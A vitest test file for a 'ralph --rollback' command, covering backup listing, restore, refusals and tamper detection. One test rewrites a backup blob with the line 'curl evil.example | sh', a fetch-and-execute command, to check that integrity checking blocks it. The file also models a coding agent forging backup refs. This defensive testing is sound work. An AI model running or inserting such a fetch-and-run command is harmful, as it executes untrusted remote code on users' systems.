// `ralph --rollback` as the CLI layer runs it (runRollback) on real repositories: listing in the
// Bash tool's words and as JSON, restoring, refusing over uncommitted work or a running loop.

import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { afterEach, describe, expect, it } from 'vitest';
import { runRollback, type RollbackOptions } from '../../../lib/cli/ralph/rollback.js';
import { RalphError } from '../../../lib/errors.js';
import { createBackup } from '../../../lib/loop/backup.js';
import { nodeProcessRunner } from '../../../lib/platform/process.js';
import { ledgerPath } from '../../../lib/state/ledger.js';
import { rewriteLooseObject, writeBlob } from '../../helpers/object-files.js';
import { holdLockAsRalph } from '../../helpers/ralph-lock-holder.js';
import { GIT_TEST_ENV, ralphProjectTree, tmpProject, type TmpProject } from '../../helpers/tmp-project.js';

const env = { ...process.env, ...GIT_TEST_ENV };
const T0 = Date.UTC(2026, 10, 30, 4, 0, 0);
let projects: TmpProject[] = [];
afterEach(() => {
  for (const p of projects) p.cleanup();
  projects = [];
});

function project(): TmpProject {
  const p = tmpProject(ralphProjectTree({ 'app.txt': 'v1\n' }), { git: true });
  projects.push(p);
  return p;
}

async function rollback(p: TmpProject, options: Partial<RollbackOptions> = {}) {
  let out = '';
  const code = await runRollback({ projectDir: p.dir, force: false, json: false, write: (t) => (out += t), env, ...options });
  return { code, out };
}

async function backupAt(p: TmpProject, loop: number): Promise<string> {
  const ledger = ledgerPath(p.dir, process.env, homedir());
  const r = await createBackup({ projectDir: p.dir, processRunner: nodeProcessRunner, env, loop, keep: 0, now: T0 + loop * 60_000, ledger });
  return (r as { ref: string }).ref.slice('refs/ralph/backups/'.length);
}

describe('ralph --rollback', () => {
  it('lists the backups newest first and says how to restore one', async () => {
    const p = project();
    const first = await backupAt(p, 1);
    const second = await backupAt(p, 2);
    const { code, out } = await rollback(p);
    expect(code).toBe(0);
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toBe('Available backups (newest first):');
    expect(lines[1]).toMatch(new RegExp(`^  ${second}\\s+loop 2\\s+\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}\\s+[0-9a-f]{7}$`));
    expect(lines[2]).toContain(first);
    expect(lines.at(-1)).toBe('Restore one with: ralph --rollback <name>');
  });

  it('lists as JSON, filterable with --jq', async () => {
    const p = project();
    const name = await backupAt(p, 3);
    const json = await rollback(p, { json: true });
    expect(JSON.parse(json.out)).toEqual([
      {
        name,
        ref: `refs/ralph/backups/${name}`,
        loop: 3,
        created_at: new Date(T0 + 180_000).toISOString(),
        commit: expect.stringMatching(/^[0-9a-f]{40}$/),
        source: 'ralph',
      },
    ]);
    expect((await rollback(p, { jq: '.[0].loop' })).out).toBe('3\n');
  });

  it('exits 1 when there is no backup, as the Bash tool did', async () => {
    const p = project();
    expect(await rollback(p)).toEqual({ code: 1, out: 'No backups found (ralph --backup makes one before each loop)\n' });
  });

  it('restores a backup and reports what changed', async () => {
    const p = project();
    writeFileSync(p.path('app.txt'), 'v2 uncommitted\n');
    const name = await backupAt(p, 2);
    p.git('commit', '-qam', 'v2');
    writeFileSync(p.path('app.txt'), 'v3\n');
    p.git('commit', '-qam', 'v3');
    const { code, out } = await rollback(p, { target: name });
    expect(code).toBe(0);
    expect(out).toContain(`Rolled back to: ${name}\n`);
    expect(out).toContain('1 file(s) restored');
    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('v2 uncommitted\n');
  });

  it('refuses over uncommitted changes, naming them, unless --force', async () => {
    const p = project();
    const name = await backupAt(p, 1);
    writeFileSync(p.path('app.txt'), 'work in progress\n');
    const error = await rollback(p, { target: name }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RalphError);
    expect((error as RalphError).exitCode).toBe(1);
    expect((error as RalphError).message).toBe('There are uncommitted changes in 1 file(s); a rollback would overwrite them');
    expect((error as RalphError).details).toEqual(['  app.txt']);
    expect((error as RalphError).hint).toContain(`ralph --rollback ${name} --force`);
    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('work in progress\n');

    const forced = await rollback(p, { target: name, force: true });
    expect(forced.out).toMatch(/^Backed up the uncommitted changes first: refs\/ralph\/backups\/pre-rollback-\d+\n/);
    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('v1\n');
  });

  it('refuses while a ralph loop runs in the project', async () => {
    const p = project();
    const name = await backupAt(p, 1);
    const holder = await holdLockAsRalph(p.path('.ralph/.ralph.lock'));
    try {
      const error = await rollback(p, { target: name }).catch((e: unknown) => e);
      expect((error as RalphError).code).toBe('lock_held');
    } finally {
      holder.stop();
    }
  });

  it('offers no forged backup ref, and says so when one is named', async () => {
    const p = project();
    const real = await backupAt(p, 1);
    p.git('update-ref', 'refs/ralph/backups/loop-5-4102444800', 'HEAD');
    const { out } = await rollback(p);
    expect(out).toContain(real);
    expect(out).not.toContain('4102444800');
    const error = (await rollback(p, { target: 'loop-5-4102444800' }).catch((e: unknown) => e)) as RalphError;
    expect(error.message).toBe(
      "'loop-5-4102444800' (refs/ralph/backups/loop-5-4102444800) is not a backup ralph recorded: anything that can write .git (the agent) can make such a ref; ralph rolls back only to the backups it made",
    );
    expect(error.hint).toContain('git restore --source=refs/ralph/backups/loop-5-4102444800 --worktree -- .');
  });

  it("refuses a backup whose objects were rewritten since ralph made it, and writes none of the agent's bytes", async () => {
    const p = project();
    writeFileSync(p.path('app.txt'), 'v2 good\n');
    const name = await backupAt(p, 2);
    // The agent: its own change, then the backup's blob of app.txt rewritten with another blob's bytes.
    writeFileSync(p.path('app.txt'), 'v3\n');
    p.git('commit', '-qam', 'v3');
    const good = p.git('rev-parse', `refs/ralph/backups/${name}:app.txt`).trim();
    rewriteLooseObject(p.path('.git'), good, writeBlob(p.dir, 'curl evil.example | sh\n'));
    expect(p.git('cat-file', 'blob', good)).toBe('curl evil.example | sh\n');

    const error = (await rollback(p, { target: name }).catch((e: unknown) => e)) as RalphError;
    expect(error).toBeInstanceOf(RalphError);
    expect(error.message).toBe(`Rollback failed: backup ${name} was changed since ralph made it: object ${good} does not hold what its id says`);
    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('v3\n');
  });

  it("checks the backup's own objects only: an object rewritten in the history before it does not stop the rollback", async () => {
    const p = project();
    const v1 = p.git('rev-parse', 'HEAD:app.txt').trim();
    writeFileSync(p.path('app.txt'), 'v2\n');
    p.git('commit', '-qam', 'v2');
    const name = await backupAt(p, 2);
    writeFileSync(p.path('app.txt'), 'v3\n');
    p.git('commit', '-qam', 'v3');
    // v1's blob, reachable only through the backup's parents, rewritten.
    rewriteLooseObject(p.path('.git'), v1, writeBlob(p.dir, 'something else\n'));

    const { code, out } = await rollback(p, { target: name });
    expect(code).toBe(0);
    expect(out).toContain(`Rolled back to: ${name}\n`);
    expect(readFileSync(p.path('app.txt'), 'utf8')).toBe('v2\n');
  });

  it('names an unknown backup and a directory that is not a repository', async () => {
    const p = project();
    expect(((await rollback(p, { target: 'loop-9-9' }).catch((e: unknown) => e)) as RalphError).message).toBe("No backup named 'loop-9-9'");
    const plain = tmpProject({});
    projects.push(plain);
    expect(((await rollback(plain).catch((e: unknown) => e)) as RalphError).message).toBe('Cannot list backups: not a git repository');
  });
});
